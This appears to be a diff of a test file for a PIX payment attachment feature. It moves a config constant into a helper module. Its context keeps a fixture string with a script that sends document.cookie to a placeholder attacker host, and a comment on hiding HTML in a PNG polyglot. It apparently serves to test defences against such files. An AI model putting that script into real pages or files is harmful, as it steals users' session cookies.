@@ -9,15 +9,8 @@ import sharp from 'sharp';
 import { testGateway } from '../../helpers/gateway.js';
 import { type SmtpPeer, startSmtp } from '../../helpers/smtp.js';
 import { paymentsConfig } from './config.js';
-import { attachmentOf } from './pix-helpers.js';
+import { attachmentOf, PIX } from './pix-helpers.js';
 
-const PIX = {
-  chave: 'pagamentos@exemplo.com.br',
-  nome: 'Exemplo Servicos Ltda',
-  cidade: 'Sao Paulo',
-  brl_por_usd: 5.5,
-  owner_email: 'dono@exemplo.com.br',
-};
 const HTML = '<html><body><script>fetch("https://atacante.example/"+document.cookie)</script></body></html>';
 
 /** A PNG with a text chunk holding HTML before IEND (what a polyglot hides in). */
